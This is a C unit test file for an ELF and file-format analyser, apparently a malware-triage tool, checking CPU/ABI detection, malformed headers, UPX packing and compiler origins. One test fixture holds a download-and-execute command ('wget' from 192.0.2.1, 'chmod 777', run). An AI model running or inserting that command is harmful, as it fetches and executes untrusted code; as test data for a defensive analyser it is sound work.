#include "sample/elf.h"
#include "sample/magic.h"
#include "sample/upx.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define LENGTH(a) (sizeof(a) / sizeof(a)[0])

enum { SIZE = 1024, CODE = 0x100 };

/* A program that is as it should be: one segment that can be run and holds all of the file, a table of sections with names. */
struct made {
    uint8_t data[SIZE];
    bool wide, big;
};

static void put(struct made *m, size_t at, size_t n, uint64_t v)
{
    for (size_t i = 0; i < n; i++)
        m->data[at + (m->big ? n - 1 - i : i)] = (uint8_t)(v >> 8 * i);
}

static void put_section(struct made *m, size_t number, uint32_t name, uint32_t type, uint64_t offset, uint64_t size)
{
    size_t at = 0x300 + number * (m->wide ? 64 : 40), w = m->wide ? 8 : 4;
    put(m, at, 4, name);
    put(m, at + 4, 4, type);
    put(m, at + 8 + 2 * w, w, offset);
    put(m, at + 8 + 3 * w, w, size);
}

static struct made make(uint16_t machine, bool wide, bool big, uint32_t flags)
{
    static const char names[] = "\0.text\0.shstrtab";
    struct made m = { .wide = wide, .big = big };
    size_t w = wide ? 8 : 4, at = 24;
    memcpy(m.data, "\177ELF", 4);
    m.data[4] = wide ? 2 : 1;
    m.data[5] = big ? 2 : 1;
    m.data[6] = 1;
    put(&m, 16, 2, 2);
    put(&m, 18, 2, machine);
    put(&m, 20, 4, 1);
    put(&m, at, w, 0x10000 + CODE);
    put(&m, at + w, w, wide ? 64 : 52);
    put(&m, at + 2 * w, w, 0x300);
    at += 3 * w;
    put(&m, at, 4, flags);
    static const uint16_t sizes[2][6] = { { 52, 32, 1, 40, 3, 2 }, { 64, 56, 1, 64, 3, 2 } };
    for (size_t i = 0; i < 6; i++)
        put(&m, at + 4 + 2 * i, 2, sizes[wide][i]);
    at = wide ? 64 : 52;
    put(&m, at, 4, 1);
    put(&m, at + (wide ? 4 : 24), 4, 5);
    put(&m, at + (wide ? 8 : 4), w, 0);
    put(&m, at + (wide ? 16 : 8), w, 0x10000);
    put(&m, at + (wide ? 32 : 16), w, SIZE);
    put(&m, at + (wide ? 40 : 20), w, SIZE);
    memcpy(m.data + 0x200, names, sizeof names);
    put_section(&m, 1, 1, 1, CODE, 64);
    put_section(&m, 2, 7, 3, 0x200, sizeof names);
    return m;
}

/* From a block of just that length. */
static void tell(const uint8_t *data, size_t n, struct sample_report *r)
{
    uint8_t *copy = malloc(n ? n : 1);
    assert_non_null(copy);
    memcpy(copy, data, n);
    sample_report_init(r);
    magic_tell(copy, n, r);
    assert_int_equal(elf_tell(copy, n, r), 0);
    free(copy);
}

static bool has_finding(const struct sample_report *r, const char *name)
{
    for (size_t i = 0; i < r->findings; i++)
        if (!strcmp(r->finding[i].name, name))
            return true;
    return false;
}

static const struct {
    uint16_t machine;
    bool wide, big;
    uint32_t flags;
    const char *cpu, *abi;
} kinds[] = {
    { 40, false, false, 0x05000400, "arm", "eabi5 hard-float" },
    { 40, false, false, 0x05000200, "arm", "eabi5 soft-float" },
    { 40, false, false, 0x00000002, "arm", "oabi" },
    { 40, false, true, 0x05800200, "arm", "eabi5 be8 soft-float" },
    { 183, true, false, 0, "aarch64", "" },
    { 8, false, true, 0x00001005, "mips", "mips1 o32" },
    { 8, false, false, 0x70001007, "mips", "mips32r2 o32" },
    { 8, false, true, 0x20000024, "mips", "mips3 n32" },
    { 8, true, true, 0x80000006, "mips64", "mips64r2 n64" },
    { 20, false, true, 0, "powerpc", "" },
    { 21, true, false, 2, "powerpc64", "elfv2" },
    { 42, false, false, 9, "superh", "sh4" },
    { 42, false, true, 0x8009, "superh", "sh4 fdpic" },
    { 2, false, true, 0, "sparc", "v8" },
    { 18, false, true, 0x100, "sparc", "v8plus" },
    { 43, true, true, 2, "sparc64", "v9 rmo" },
    { 4, false, true, 0, "m68k", "68020" },
    { 4, false, true, 0x01000000, "m68k", "68000" },
    { 4, false, true, 5, "m68k", "coldfire isa-b" },
    { 195, false, false, 6, "arc", "arcv2hs" },
    { 93, false, true, 3, "arc", "arc700" },
    { 3, false, false, 0, "x86", "i386" },
    { 62, true, false, 0, "x86-64", "x86-64" },
    { 62, false, false, 0, "x86-64", "x32" },
    { 243, true, false, 5, "riscv", "rv64 double-float rvc" },
    { 243, false, false, 0, "riscv", "rv32 soft-float" },
    { 258, true, false, 3, "loongarch", "la64 double-float" },
    { 94, false, false, 0x300, "xtensa", "" },
    { 15, false, true, 0, "machine 15", "" },
};

static void every_cpu(void **state)
{
    (void)state;
    for (size_t i = 0; i < LENGTH(kinds); i++) {
        struct sample_report r;
        struct made m = make(kinds[i].machine, kinds[i].wide, kinds[i].big, kinds[i].flags);
        tell(m.data, SIZE, &r);
        assert_string_equal(r.word[WORD_FORMAT], "elf");
        assert_string_equal(r.word[WORD_CPU], kinds[i].cpu);
        assert_string_equal(r.word[WORD_ABI], kinds[i].abi);
        assert_string_equal(r.word[WORD_ORDER], kinds[i].big ? "big" : "little");
        assert_string_equal(r.word[WORD_TYPE], "executable");
        assert_string_equal(r.word[WORD_LINKING], "static");
        assert_int_equal(r.bits, kinds[i].wide ? 64 : 32);
        assert_int_equal(r.stripped, TRI_YES);
        if (r.findings != (kinds[i].machine == 15))
            fail_msg("%s: %s, %s", kinds[i].cpu, r.finding[0].name, r.finding[0].text);
        assert_int_equal(r.parts, 3);
        assert_string_equal(r.part[1].name, ".text");
        sample_report_release(&r);
    }
}

/* What may have any value in a sound file: flags, ABI, the entry's low byte; and the magic, which is asked before. */
static bool is_free(const struct made *m, size_t at)
{
    size_t flags = m->wide ? 48 : 36;
    size_t entry = m->big ? (m->wide ? 31 : 27) : 24;
    return at == 7 || at == 8 || at == entry || (at >= flags && at < flags + 4) || at < 4;
}

/* Each byte of the header, one after the other: nothing breaks, and what is wrong has a name. */
static void every_byte_of_the_header(void **state)
{
    (void)state;
    static const uint8_t flips[] = { 0xff, 0x01, 0x80, 0x55 };
    for (size_t k = 0; k < LENGTH(kinds); k++)
        for (size_t at = 0; at < (kinds[k].wide ? 64u : 52u); at++) {
            struct made sound = make(kinds[k].machine, kinds[k].wide, kinds[k].big, kinds[k].flags);
            size_t named = 0;
            for (size_t i = 0; i < LENGTH(flips); i++) {
                struct made m = sound;
                struct sample_report r;
                m.data[at] ^= flips[i];
                tell(m.data, SIZE, &r);
                named += r.findings > 0;
                bool machine = at == 18 || at == 19;
                if (!machine && strcmp(r.word[WORD_CPU], kinds[k].cpu) != 0 && kinds[k].machine != 15)
                    fail_msg("%s, byte %zu ^ %02x: told as %s", kinds[k].cpu, at, flips[i], r.word[WORD_CPU]);
                sample_report_release(&r);
            }
            if (!named && !is_free(&sound, at))
                fail_msg("%s, byte %zu: nothing is named", kinds[k].cpu, at);
        }
}

/* Shorter and shorter. */
static void every_length(void **state)
{
    (void)state;
    for (size_t n = 0; n <= SIZE; n++) {
        struct sample_report r;
        struct made m = make(8, false, true, 0x70001007);
        tell(m.data, n, &r);
        if (n >= 24)
            assert_string_equal(r.word[WORD_CPU], "mips");
        if (n < SIZE)
            assert_true(r.findings > 0);
        sample_report_release(&r);
    }
}

static void what_lies(void **state)
{
    (void)state;
    struct sample_report r;
    struct made m = make(40, false, false, 0x05000200);
    uint8_t longer[SIZE + 600] = { 0 };
    memcpy(longer, m.data, SIZE);
    tell(longer, sizeof longer, &r);
    assert_true(has_finding(&r, "elf-overlay"));
    sample_report_release(&r);
    m.data[4] = 2; /* 64 bits, says it */
    tell(m.data, SIZE, &r);
    assert_true(has_finding(&r, "elf-class"));
    assert_int_equal(r.bits, 32);
    sample_report_release(&r);
    m = make(8, false, true, 0);
    m.data[5] = 1; /* little, says it */
    tell(m.data, SIZE, &r);
    assert_true(has_finding(&r, "elf-data-encoding"));
    assert_string_equal(r.word[WORD_ORDER], "big");
    assert_string_equal(r.word[WORD_CPU], "mips");
    sample_report_release(&r);
    m = make(40, false, false, 0);
    memset(m.data + 32, 0, 4); /* no section table, but sections */
    tell(m.data, SIZE, &r);
    assert_true(has_finding(&r, "elf-section-table"));
    sample_report_release(&r);
    m = make(40, false, false, 0);
    put(&m, 52 + 24, 4, 7);
    tell(m.data, SIZE, &r);
    assert_true(has_finding(&r, "elf-segment-rwx"));
    sample_report_release(&r);
}

/* ---- what is there to cost time ---- */

enum { LARGE = 1 << 20, MANY = 2000, TABLE_AT = 0x1000 };

/* A header of the made kind, and a table of `n` sections, each of a type, that hold all of the file. */
static uint8_t *make_large(uint32_t type, size_t n)
{
    struct made m = make(8, false, true, 0x70001007);
    put(&m, 32, 4, TABLE_AT);
    put(&m, 48, 2, n);
    uint8_t *data = calloc(1, LARGE);
    assert_non_null(data);
    memcpy(data, m.data, SIZE);
    struct made s = { .big = true };
    put_section(&s, 0, 1, type, 0, LARGE);
    put(&s, 0x300 + 24, 4, 1); /* its names are in the next one */
    for (size_t i = 1; i < n; i++)
        memcpy(data + TABLE_AT + i * 40, s.data + 0x300, 40);
    return data;
}

/* Thousands of sections that each hold all of it: bytes are counted a few times, not thousands of times. */
static void sections_upon_sections(void **state)
{
    (void)state;
    struct sample_report r;
    uint8_t *data = make_large(1, MANY);
    tell(data, LARGE, &r);
    assert_true(has_finding(&r, "elf-parts-overlap"));
    assert_int_equal(r.parts, SAMPLE_ITEMS);
    assert_int_equal(r.parts + r.parts_more, MANY); /* a segment, and all sections but the first */
    assert_true(r.part[1].entropy > 0);
    size_t counted = 0;
    for (size_t i = 0; i < r.parts; i++)
        counted += r.part[i].entropy > 0;
    assert_in_range(counted, 7, 9);
    assert_string_equal(r.word[WORD_CPU], "mips");
    sample_report_release(&r);
    free(data);
}

struct names {
    size_t n, longest;
};

static int count_name(void *context, const char *name, size_t length)
{
    struct names *t = context;
    assert_int_equal(strnlen(name, length + 1), length);
    t->n++;
    t->longest = length > t->longest ? length : t->longest;
    return 0;
}

/* Tables of symbols upon each other, and names that go on for ever. */
static void symbols_upon_symbols(void **state)
{
    (void)state;
    struct names t = { 0 };
    uint8_t *data = make_large(11, MANY);
    assert_int_equal(elf_imports(data, LARGE, count_name, &t), 0);
    assert_in_range(t.n, 1, 8192);
    assert_in_range(t.longest, 1, 511);
    free(data);
    /* A small one: one name of 3 bytes, one that nothing ends. */
    struct made m = make(8, false, true, 0x70001007);
    static const uint8_t symbols[] = { 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0x12, 0, 0, 0,
                                       0, 0, 0, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0x12, 0, 0, 0,
                                       0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0x12, 0, 0, 1 };
    memcpy(m.data + CODE, symbols, sizeof symbols);
    memcpy(m.data + 0x200, "\0abc\0xyz", 8);
    put_section(&m, 1, 1, 11, CODE, sizeof symbols);
    put(&m, 0x300 + 40 + 24, 4, 2);
    put_section(&m, 2, 1, 3, 0x200, 8);
    t = (struct names){ 0 };
    assert_int_equal(elf_imports(m.data, SIZE, count_name, &t), 0);
    assert_int_equal(t.n, 1); /* the last is not imported: it is in section 1 */
    assert_int_equal(t.longest, 3);
}

/* ---- attributes ---- */

/* .ARM.attributes in the place of .text: a processor's architecture of each number. */
static void arm_attributes(void **state)
{
    (void)state;
    static const struct {
        uint8_t arch, vfp;
        const char *abi;
    } known[] = { { 1, 0, "armv4 eabi5" }, { 2, 0, "armv4t eabi5" }, { 4, 0, "armv5te eabi5" }, { 5, 0, "armv5tej eabi5" },
                  { 6, 0, "armv6 eabi5" }, { 9, 0, "armv6k eabi5" }, { 10, 1, "armv7 eabi5 hard-float" }, { 14, 0, "armv8 eabi5" },
                  { 99, 0, "eabi5" } };
    for (size_t i = 0; i < LENGTH(known); i++) {
        struct sample_report r;
        struct made m = make(40, false, false, 0x05000000);
        const uint8_t attributes[] = { 'A', 31, 0, 0, 0, 'a', 'e', 'a', 'b', 'i', 0, 1, 21, 0, 0, 0,
                                       5, 'x', 0, 6, known[i].arch, 32, 1, 'g', 'n', 'u', 0, 28, known[i].vfp, 8, 1, 9 };
        memcpy(m.data + CODE, attributes, sizeof attributes);
        memcpy(m.data + 0x200, "\0.ARM.attributes\0.shstrtab", 27);
        put_section(&m, 1, 1, 0x70000003, CODE, sizeof attributes);
        put_section(&m, 2, 17, 3, 0x200, 27);
        tell(m.data, SIZE, &r);
        assert_string_equal(r.word[WORD_ABI], known[i].abi);
        sample_report_release(&r);
        for (size_t cut = 0; cut < sizeof attributes; cut++) { /* and cut anywhere */
            put_section(&m, 1, 1, 0x70000003, CODE, cut);
            tell(m.data, SIZE, &r);
            sample_report_release(&r);
        }
    }
}

/* ---- where it was made ---- */

static const struct {
    const char *text, *libc, *compiler;
} origins[] = {
    { "GCC: (Debian 12.2.0-14) 12.2.0", "", "gcc 12.2.0" },
    { "GCC: (GNU) 4.1.2", "", "gcc 4.1.2" },
    { "GCC: (GNU", "", "" },
    { "GCC: (GNU) x", "", "" },
    { "Debian clang version 14.0.6", "", "clang 14.0.6" },
    { "GCC: (GNU) 9.4.0\nclang version 13.0.1.", "", "clang 13.0.1" },
    { "rustc version 1.63.0", "", "rustc 1.63.0" },
    { "Go build ID: \"a/b\"", "", "go" },
    { "npxXoudifFeEgGaACScs", "uclibc", "" },
    { "__uClibc_main", "uclibc", "" },
    { "FATAL: kernel too old\n", "glibc", "" },
    { "printf", "", "" },
};

static void where_it_was_made(void **state)
{
    (void)state;
    for (size_t i = 0; i < LENGTH(origins); i++)
        for (int end = 0; end < 2; end++) { /* within the file, and as its last bytes */
            struct sample_report r;
            struct made m = make(8, false, true, 0x00001005);
            size_t n = strlen(origins[i].text);
            memcpy(m.data + (end ? SIZE - n : CODE), origins[i].text, n);
            tell(m.data, SIZE, &r);
            assert_string_equal(r.word[WORD_LIBC], origins[i].libc);
            assert_string_equal(r.word[WORD_COMPILER], origins[i].compiler);
            sample_report_release(&r);
        }
}

/* ---- UPX ---- */

static void make_upx(struct made *m, const char *magic, bool sizes, bool trailer)
{
    size_t at = 52 + 32;
    memcpy(m->data + at + 4, magic, 4);
    m->data[at + 10] = 13;                            /* version */
    m->data[at + 11] = m->big ? 132 : 23;             /* format */
    put(m, at + 16, 4, sizes ? 4000 : 0);             /* the whole file */
    put(m, at + 20, 4, sizes ? 4000 : 0);             /* a block */
    put(m, at + 24, 4, 3900);                         /* unpacked */
    put(m, at + 28, 4, 800);                          /* packed */
    m->data[at + 32] = 14;                            /* LZMA */
    if (trailer)
        memcpy(m->data + SIZE - 36, magic, 4);
}

static const struct {
    const char *magic;
    bool sizes, trailer;
    const char *packer;
} upx[] = {
    { "UPX!", true, true, "upx" },          { "UPX!", true, false, "upx-altered" }, { "YTS\x99", true, true, "upx-altered" },
    { "\0\0\0\0", true, false, "upx-altered" }, { "UPX!", false, true, "upx-altered" }, { "KTN!", false, false, "upx-altered" },
};

static void packed(void **state)
{
    (void)state;
    for (int big = 0; big < 2; big++)
        for (size_t i = 0; i < LENGTH(upx); i++) {
            struct sample_report r;
            struct made m = make(8, false, big, 0x00001005);
            make_upx(&m, upx[i].magic, upx[i].sizes, upx[i].trailer);
            tell(m.data, SIZE, &r);
            assert_string_equal(r.word[WORD_PACKER], upx[i].packer);
            assert_true(has_finding(&r, "packed") || has_finding(&r, "packed-altered"));
            assert_string_equal(r.word[WORD_CPU], "mips");
            sample_report_release(&r);
        }
    struct sample_report r;
    struct made m = make(8, false, false, 0x00001005);
    tell(m.data, SIZE, &r);
    assert_string_equal(r.word[WORD_PACKER], "");
    sample_report_release(&r);
}

/* ---- by the first bytes ---- */

#define BYTES(s) s, sizeof(s) - 1

static const struct {
    const char *bytes;
    size_t n;
    const char *format, *interpreter;
} files[] = {
    { BYTES(""), "empty", "" },
    { BYTES("#!/bin/sh\nid\n"), "script", "/bin/sh" },
    { BYTES("#!/usr/bin/env python3\n"), "script", "python3" },
    { BYTES("#! /bin/bash -e\n"), "script", "/bin/bash" },
    { BYTES("cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a\n"), "script", "sh" },
    { BYTES("PK\003\004..."), "zip", "" },
    { BYTES("\037\213\010..."), "gzip", "" },
    { BYTES("MZ"), "text", "" },
    { BYTES("  <!DOCTYPE html><title>"), "html", "" },
    { BYTES("hello there\n"), "text", "" },
    { BYTES("\1\2\3\0\4"), "data", "" },
    { BYTES("bFLT\0\0\0\4"), "bflt", "" },
};

static void every_format(void **state)
{
    (void)state;
    for (size_t i = 0; i < LENGTH(files); i++) {
        struct sample_report r;
        sample_report_init(&r);
        magic_tell(files[i].bytes, files[i].n, &r);
        assert_string_equal(r.word[WORD_FORMAT], files[i].format);
        assert_string_equal(r.word[WORD_INTERPRETER], files[i].interpreter);
    }
    uint8_t pe[256] = "MZ";
    struct sample_report r;
    sample_report_init(&r);
    pe[0x3c] = 0x80;
    memcpy(pe + 0x80, "PE\0\0", 4);
    magic_tell(pe, sizeof pe, &r);
    assert_string_equal(r.word[WORD_FORMAT], "pe");
    uint8_t tar[512] = "name";
    memcpy(tar + 257, "ustar", 5);
    magic_tell(tar, sizeof tar, &r);
    assert_string_equal(r.word[WORD_FORMAT], "tar");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_cpu),    cmocka_unit_test(every_byte_of_the_header),
        cmocka_unit_test(every_length), cmocka_unit_test(what_lies),
        cmocka_unit_test(sections_upon_sections), cmocka_unit_test(symbols_upon_symbols),
        cmocka_unit_test(arm_attributes), cmocka_unit_test(where_it_was_made), cmocka_unit_test(packed),
        cmocka_unit_test(every_format),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
